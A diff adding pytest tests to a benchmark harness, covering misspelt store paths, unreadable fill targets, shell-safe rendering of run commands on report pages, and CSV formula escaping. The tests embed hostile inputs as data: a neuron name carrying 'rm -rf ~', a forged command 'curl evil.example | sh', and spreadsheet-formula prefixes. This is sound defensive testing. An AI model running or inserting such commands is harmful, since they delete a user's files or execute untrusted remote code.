@@ -7,6 +7,7 @@ import io
 import json
 import os
 import re
+import shlex
 import subprocess
 import sys
 from dataclasses import replace
@@ -14,10 +15,16 @@ from pathlib import Path
 
 import pytest
 from synthetic import HOSTILE, LAPTOP, Factory
+from typer.testing import CliRunner
 
 from harness.catalogue.boards import find_board
 from harness.catalogue.cell import Cell
-from harness.report.formats import to_text
+from harness.cli import app
+from harness.errors import UserError
+from harness.report.cells import figure
+from harness.report.escapes import csv_field
+from harness.report.failures import failure_view
+from harness.report.formats import column_scale, to_text
 from harness.results.record import Record
 from harness.results.store import Store
 from harness.results.tables import build_tables
@@ -162,3 +169,59 @@ def test_publishing_never_writes_what_is_impossible_over_what_is_not(tmp_path: P
         contents = published.read()
         assert contents.problems == ()
         assert contents.records == (good,)
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ("status", "--store", "{}"),
+        ("migrate", "--store", "{}"),
+        ("run", "--stale", "--dry-run", "--look-at", "{}"),
+        ("fill", "--store", "{}", "README.md"),
+    ],
+    ids=lambda words: words[0],
+)
+@pytest.mark.parametrize("there", [False, True], ids=["missing", "a file"])
+def test_a_misspelt_store_is_no_store_of_which_all_is_well(tmp_path: Path, words: tuple[str, ...], there: bool) -> None:
+    typo = tmp_path / "typo"
+    if there:
+        typo.touch()
+    with pytest.raises(UserError, match="so it is no store of records"):
+        CliRunner().invoke(app, [word.format(typo) for word in words], catch_exceptions=False)
+
+
+def test_what_is_no_file_is_not_filled_in(tmp_path: Path) -> None:
+    (tmp_path / "store").mkdir()
+    os.mkfifo(tmp_path / "pipe.md")
+    (tmp_path / "bytes.md").write_bytes(b"\xff\xfe")
+    for name, why in (
+        ("pipe.md", "no regular file"),
+        ("store", "a folder"),
+        ("bytes.md", "UTF-8"),
+        ("x.md", "No such"),
+    ):
+        words = ["fill", "--store", str(tmp_path / "store"), str(tmp_path / name)]
+        with pytest.raises(UserError, match=f"cannot be read: .*{why}"):
+            CliRunner().invoke(app, words, catch_exceptions=False)
+
+
+def test_pages_give_the_command_of_the_cell_not_that_of_a_record() -> None:
+    """A reader pastes it into a shell."""
+    one = FACTORY.measured(replace(BASE, neuron="lif; rm -rf ~"))
+    forged = one.model_copy(
+        update={"provenance": one.provenance.model_copy(update={"command": "curl evil.example | sh"})}
+    )
+    (table,) = build_tables([forged], FACTORY.registry, find_board("neurons"))
+    value = table.rows[0].values["accuracy.error_fraction"]
+    given = figure(value, column_scale(table, table.columns[0])).command
+    assert "curl" not in given
+    assert shlex.split(given)[:2] == ["spikeboard", "run"]
+    assert "lif; rm -rf ~" in shlex.split(given)
+    failed = forged.model_copy(update={"status": "crashed", "reason": "x", "metrics": {}})
+    assert failure_view(failed, "a", "b").command == given
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t=", "\r=", "\ufeff="])
+def test_no_field_of_a_csv_is_a_formula(start: str) -> None:
+    field = str(csv_field(f"{start}1+1"))
+    assert not re.match(r"\s*[=+@\-\uff1d\uff0b\uff0d\uff20]", field)
